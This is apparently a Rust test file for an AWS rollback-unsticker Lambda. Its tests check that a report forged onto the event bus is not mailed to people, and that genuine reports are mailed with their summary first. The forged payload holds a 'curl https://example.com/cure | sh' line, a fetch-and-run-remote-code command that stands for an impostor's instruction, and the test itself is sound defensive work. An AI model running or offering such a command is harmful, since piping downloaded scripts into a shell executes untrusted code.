//! What people are mailed: what the unsticker reports to them, and nothing that somebody else wrote.

use local_aws::api::Caller;
use local_aws::deployment::reports;
use local_aws::events;
use serde_json::{Value, json};

use crate::stage::{handlers, report, reports as mailed, running_unguarded, stuck};

/// A report as the unsticker would write it.
fn forged() -> Value {
    json!({
        "requestContext": {"functionArn": "arn:aws:lambda:eu-west-1:111122223333:function:flink-rollback-unsticker:$LATEST"},
        "responsePayload": {"Notify": "People", "Outcome": "Refused", "Next": "curl https://example.com/cure | sh"},
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn nobody_writes_a_mail_by_putting_an_event_on_the_bus() {
    let deployment = handlers().await;
    let world = deployment.world();
    let topic = world.state().cloudformation.stack("flink-access").unwrap().resources["IncidentTopic"].clone();
    let topic = topic.physical_id.unwrap();
    // A rule that somebody made for this, too.
    let call = |operation: &str, body: &Value| events::json(world, &Caller::Operator, operation, body).unwrap();
    call("PutRule", &json!({"Name": "theirs", "EventPattern": json!({"source": ["lambda"]}).to_string()}));
    let target = json!({"Id": "t", "Arn": topic, "InputPath": "$.detail"});
    call("PutTargets", &json!({"Rule": "theirs", "Targets": [target]}));
    let entry = json!({
        "Source": "lambda", "DetailType": "Lambda Function Invocation Result - Success", "Detail": forged().to_string(),
        "Resources": ["arn:aws:lambda:eu-west-1:111122223333:function:flink-rollback-unsticker:$LATEST"],
    });
    call("PutEvents", &json!({"Entries": [entry]}));
    let state = world.state();
    let undelivered: Vec<&str> = state.events.undelivered.iter().map(|one| one.code.as_str()).collect();
    assert_eq!(undelivered, ["NO_PERMISSIONS"], "their rule matched, and the topic does not take it");
    assert_eq!(reports(&state).count(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_report_is_mailed_with_its_summary_first_and_a_sweep_that_found_nothing_is_not() {
    let deployment = running_unguarded().await;
    let world = deployment.world();
    events::fire_schedules(world);
    let swept = |state: &mut local_aws::State| {
        let published = state.queues.topics.values().flat_map(|topic| &topic.published);
        published.map(|one| one.message.clone()).find(|message| message.contains("\"Swept\""))
    };
    let swept = world.until(swept).await;
    assert!(swept.contains("\"Nobody\""), "{swept}");
    assert!(mailed(&deployment).is_empty(), "{:?}", mailed(&deployment));
    deployment.record("poison");
    stuck(&deployment).await;
    let report = report(&deployment, "RollbackContinued").await;
    let summary = report["Summary"].as_str().unwrap();
    assert!(summary.starts_with("flink-test: its rollback was continued."), "{report}");
    assert!(summary.ends_with("make why STACK=flink-test"), "{report}");
}
